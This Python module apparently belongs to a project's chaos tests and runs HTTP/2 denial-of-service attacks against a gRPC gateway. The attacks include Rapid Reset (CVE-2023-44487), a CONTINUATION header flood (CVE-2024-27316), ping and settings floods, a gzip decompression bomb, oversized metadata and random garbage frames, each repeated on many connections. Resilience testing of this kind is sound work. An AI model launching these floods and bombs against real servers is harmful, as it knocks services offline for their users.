"""What a hostile peer can send over HTTP/2, one connection each.

    python -m tests.chaos.attacks NAME HOST PORT SIZE CONNECTIONS

Attacks with so many connections at a time until it is killed, and says when it begins.
"""

import asyncio
import contextlib
import functools
import gzip
import random
import struct
import sys
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager

import h2.config
import h2.connection
import h2.exceptions
from hyperframe.frame import ContinuationFrame, HeadersFrame, SettingsFrame

METHOD = "/textserve.v1.GenerationService/Generate"
HEADERS = [
    (":method", "POST"), (":scheme", "http"), (":path", METHOD), (":authority", "gateway"), ("te", "trailers"),
    ("content-type", "application/grpc"),
]  # fmt: skip
BOMB_BYTES = 256 << 20


class Attacker:
    """One connection that sends what it likes, as fast as it is taken."""

    def __init__(self, reader: asyncio.StreamReader, writer: asyncio.StreamWriter) -> None:
        self.h2 = h2.connection.H2Connection(h2.config.H2Configuration(header_encoding="utf-8"))
        self._reader = reader
        self._writer = writer

    async def greet(self) -> None:
        self.h2.initiate_connection()
        await self.flush()

    async def flush(self) -> None:
        await self.send(self.h2.data_to_send())

    async def send(self, data: bytes) -> None:
        self._writer.write(data)
        await self._writer.drain()

    async def read_on(self) -> None:
        """Takes what comes until the end of the connection, and answers nothing."""
        while await self._reader.read(1 << 16):
            pass

    async def answer_on(self) -> None:
        """Does what every peer must: acknowledges settings and pings."""
        while data := await self._reader.read(1 << 16):
            self.h2.receive_data(data)
            await self.flush()


Attack = Callable[[Attacker, int], Awaitable[None]]


async def rapid_reset(attacker: Attacker, size: int) -> None:
    """Begins calls and resets them at once (CVE-2023-44487)."""
    await attacker.greet()
    for number in range(size):
        stream_id = attacker.h2.get_next_available_stream_id()
        attacker.h2.send_headers(stream_id, HEADERS)
        attacker.h2.reset_stream(stream_id)
        if number % 100 == 0:
            await attacker.flush()
    await attacker.flush()


async def ping_flood(attacker: Attacker, size: int) -> None:
    """Pings without a pause."""
    await attacker.greet()
    for number in range(size):
        attacker.h2.ping(struct.pack(">Q", number))
        if number % 100 == 0:
            await attacker.flush()
    await attacker.flush()


async def settings_flood(attacker: Attacker, size: int) -> None:
    """Changes its settings without a pause."""
    await attacker.greet()
    frame = SettingsFrame(0, {SettingsFrame.INITIAL_WINDOW_SIZE: 65_535}).serialize()
    for _ in range(size // 100):
        await attacker.send(frame * 100)


async def header_flood(attacker: Attacker, size: int) -> None:
    """Begins a header block and never ends it (CVE-2024-27316)."""
    await attacker.greet()
    await attacker.send(HeadersFrame(1, attacker.h2.encoder.encode(HEADERS)).serialize())
    for number in range(size):
        header = attacker.h2.encoder.encode([(f"x-{number}", "a" * 1000)])
        await attacker.send(ContinuationFrame(1, header).serialize())


async def metadata_bomb(attacker: Attacker, size: int) -> None:
    """Calls with far more metadata than a gateway takes."""
    await attacker.greet()
    for _ in range(max(1, size // 100)):
        stream_id = attacker.h2.get_next_available_stream_id()
        attacker.h2.send_headers(stream_id, [*HEADERS, *((f"x-{n}", "a" * 1000) for n in range(60))])
        await attacker.flush()


async def gzip_bomb(attacker: Attacker, size: int) -> None:
    """Calls whose message is small until it is unpacked."""
    await attacker.greet()
    message = _bomb()
    for _ in range(max(1, size // 5000)):
        stream_id = attacker.h2.get_next_available_stream_id()
        attacker.h2.send_headers(stream_id, [*HEADERS, ("grpc-encoding", "gzip")])
        await attacker.flush()
        await _send_data(attacker, stream_id, message)


@functools.cache
def _bomb() -> bytes:
    packed = gzip.compress(bytes(BOMB_BYTES), compresslevel=9)
    return b"\x01" + struct.pack(">I", len(packed)) + packed


async def _send_data(attacker: Attacker, stream_id: int, data: bytes) -> None:
    """Without regard to the other side's window, in frames of the size that it must take."""
    for start in range(0, len(data), 16_384):
        piece = data[start : start + 16_384]
        head = struct.pack(">I", len(piece))[1:] + b"\x00\x00" + struct.pack(">I", stream_id)
        await attacker.send(head + piece)


async def garbage_frames(attacker: Attacker, size: int) -> None:
    """Frames of every type, known or not, with random flags, streams and contents."""
    await attacker.greet()
    chance = random.Random(size)
    for _ in range(size):
        piece = chance.randbytes(chance.randrange(100))
        head = struct.pack(">I", len(piece))[1:] + chance.randbytes(2) + struct.pack(">I", chance.randrange(8))
        await attacker.send(head + piece)


async def garbage(attacker: Attacker, size: int) -> None:
    """No HTTP/2 at all."""
    chance = random.Random(size)
    for _ in range(max(1, size // 100)):
        await attacker.send(chance.randbytes(1000))


ATTACKS: dict[str, Attack] = {
    "rapid reset": rapid_reset,
    "ping flood": ping_flood,
    "settings flood": settings_flood,
    "header flood": header_flood,
    "metadata bomb": metadata_bomb,
    "gzip bomb": gzip_bomb,
    "garbage frames": garbage_frames,
    "garbage": garbage,
}


@asynccontextmanager
async def connected(host: str, port: int, *, answers: bool) -> AsyncIterator[Attacker]:
    """A connection of an attacker's own."""
    reader, writer = await asyncio.open_connection(host, port)
    attacker = Attacker(reader, writer)
    reading = asyncio.create_task(attacker.answer_on() if answers else attacker.read_on())
    try:
        yield attacker
    finally:
        reading.cancel()
        await asyncio.wait([reading])
        writer.transport.abort()


async def attack_on(host: str, port: int, attack: Attack, size: int) -> None:
    """Attacks again and again, on a new connection each time."""
    while True:
        # The other side may hang up, and refuse.
        with contextlib.suppress(OSError, h2.exceptions.H2Error):
            async with connected(host, port, answers=False) as attacker:
                await attack(attacker, size)
        await asyncio.sleep(0)


async def main(name: str, host: str, port: int, size: int, connections: int) -> None:
    """Attacks until it is killed."""
    _bomb()  # before anybody measures
    sys.stdout.write(f"{name} ready\n")
    sys.stdout.flush()
    await asyncio.gather(*(attack_on(host, port, ATTACKS[name], size) for _ in range(connections)))


if __name__ == "__main__":
    asyncio.run(main(sys.argv[1], sys.argv[2], *map(int, sys.argv[3:6])))
